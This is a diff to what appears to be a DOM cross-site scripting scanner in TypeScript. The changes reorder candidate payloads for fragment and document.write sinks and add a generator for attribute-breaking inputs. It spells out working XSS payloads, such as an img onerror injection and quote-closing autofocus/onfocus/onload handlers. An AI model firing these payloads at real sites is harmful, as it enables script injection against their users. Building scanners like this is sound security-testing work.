@@ -3,19 +3,27 @@ import { reflectionsOf } from '../dom/reflection.ts';
 import { call, spelledCall } from '../dom/script-calls.ts';
 import { scriptStateAt } from '../dom/script-state.ts';
 import { templatePayloads } from '../dom/template-payloads.ts';
-import { type Payload, payloadsFor } from '../dom/xss-payloads.ts';
+import { endOfValue, type Payload, payloadsFor } from '../dom/xss-payloads.ts';
 import type { Flow } from './dom-flow.ts';
 
 /** Values to try for a flow, the likeliest first. */
 export function payloadsOf({ entrance, word, call, libraries = [] }: Flow): Payload[] {
   switch (call.kind) {
     case 'html':
-      return withTemplates(libraries, markupPayloads(call, word));
+      return withTemplates(libraries, inParts(entrance, markupPayloads(call, word)));
     case 'code':
       return codePayloads(call, word);
     case 'address':
       return isWhole(call, word, entrance.pageUrl) ? addressPayloads(call) : [];
   }
+}
+
+/** What reads a fragment in parts takes a slash for the end of one: values without one come soon. */
+function inParts(entrance: Flow['entrance'], payloads: readonly Payload[]): readonly Payload[] {
+  if (entrance.in !== 'fragment' || !entrance.before.endsWith('/')) return payloads;
+  const [first, ...others] = payloads;
+  const hasSlash = ({ value }: Payload) => Number(value.includes('/'));
+  return first ? [first, ...others.toSorted((a, b) => hasSlash(a) - hasSlash(b))] : [];
 }
 
 /** AngularJS compiles what is in the page, and says nothing of it until there is an expression. */
@@ -40,10 +48,17 @@ const inWrittenTemplate: readonly Payload[] = [
 /** Pieces that are written one by one look like text, and stand in an attribute. */
 const outOfAttribute: Payload = { value: `'"><img src=x onerror=alert(/‹nonce›/.source)>` };
 
+/** Without angle brackets: handlers of what may have the focus, and of what is loaded. */
+const handlersBehind = (quote: '"' | "'" | ''): Payload => ({
+  value: `${endOfValue(quote)} tabindex=1 autofocus onfocus=${call} onload=${call} onerror=${call} x=${quote}`,
+});
+
 function markupPayloads({ sink, text }: SinkCall, word: string): Payload[] {
-  const payloads = reflectionsOf(text, word).flatMap(payloadsFor);
+  const reflections = reflectionsOf(text, word);
+  const payloads = reflections.flatMap(payloadsFor);
   const written = sink.startsWith('document.write');
-  if (written) return [...payloads.slice(0, 3), outOfAttribute, ...payloads.slice(3)];
+  const inElement = reflections.flatMap((each) => (each.kind === 'attribute' ? [handlersBehind(each.quote)] : []));
+  if (written) return [...payloads.slice(0, 2), outOfAttribute, ...inElement, ...payloads.slice(2)];
   // Neither scripts nor the load event of SVG run in markup that is put in: HTML Standard §13.4 and §4.12.1.
   const isRun = ({ value }: Payload) => !/<script|<svg/i.test(value) || value.includes('<img');
   return payloads.filter(isRun).toSorted((a, b) => Number(b.value.includes('<img')) - Number(a.value.includes('<img')));
